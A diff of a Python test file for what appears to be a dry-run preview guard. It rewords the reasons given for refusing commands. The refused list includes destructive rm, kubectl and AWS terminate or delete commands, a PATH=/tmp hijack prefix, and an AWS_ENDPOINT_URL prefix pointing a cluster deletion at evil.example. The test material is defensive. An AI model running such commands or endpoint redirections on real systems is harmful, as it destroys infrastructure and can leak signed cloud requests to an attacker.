@@ -90,20 +90,20 @@ def test_a_preview_and_it_is_harmless(command: str, expected: str) -> None:
 REFUSED = [
     ("rm a; rm b", "single"),
     ("cat x | xargs rm", "single"),
-    ("rm $(cat x)", "only when it runs"),
-    ("rm $FILE", "only when it runs"),
-    ("kubectl apply -f <(cat x)", "only when it runs"),
+    ("rm $(cat x)", "only known at run time"),
+    ("rm $FILE", "only known at run time"),
+    ("kubectl apply -f <(cat x)", "only known at run time"),
     ("rm a > b", "redirections"),
-    ("rm 'a", "not understood"),
+    ("rm 'a", "cannot be parsed"),
     ("", "single"),
     ("ls -la", "no dry run"),
     ("kubectl delete pod a --dry-run=none", "no dry run"),  # its own flag would win over ours
     ("kubectl create token sa", "no dry run"),
     ("aws ec2 terminate-instances --no-dry-run --instance-ids i-1", "no dry run"),
-    ("aws ec2 terminate-instances $ARGS", "only when it runs"),
-    ("make deploy", "not known to be harmless"),  # make runs `+` lines and $(shell …) even so
-    ("PATH=/tmp rm a", "not known to be harmless"),
-    ("AWS_ENDPOINT_URL=http://evil.example aws eks delete-cluster --name c", "not known to be harmless"),
+    ("aws ec2 terminate-instances $ARGS", "only known at run time"),
+    ("make deploy", "may have side effects"),  # make runs `+` lines and $(shell …) even so
+    ("PATH=/tmp rm a", "may have side effects"),
+    ("AWS_ENDPOINT_URL=http://evil.example aws eks delete-cluster --name c", "may have side effects"),
     ("aws kms cancel-key-deletion", "no dry run"),
     ("unheard-of thing", "no dry run"),
 ]
